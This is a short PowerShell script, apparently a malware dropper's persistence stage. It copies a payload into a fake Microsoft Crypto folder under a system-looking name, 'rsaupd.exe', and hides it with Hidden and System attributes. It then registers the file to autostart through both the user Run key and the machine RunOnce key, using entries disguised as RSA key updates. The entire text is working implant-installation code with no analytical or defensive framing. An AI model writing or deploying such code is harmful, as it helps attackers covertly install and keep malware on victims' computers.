$dropDir = "$env:APPDATA\Microsoft\Crypto\RSA"
$implant = Join-Path -Path $dropDir -ChildPath 'rsaupd.exe'
$runKey = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'

if (-not (Test-Path -Path $implant)) {
    Copy-Item -Path "$PSScriptRoot\payload.bin" -Destination $implant -Force
    (Get-Item -Path $implant).Attributes = 'Hidden,System'
}

New-ItemProperty -Path $runKey -Name 'RSA Key Update' -Value "`"$implant`" /silent" -PropertyType String -Force | Out-Null

# belt and braces for the machine hive
reg.exe add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce" /v CryptSvcUpd /t REG_SZ /d "$implant" /f
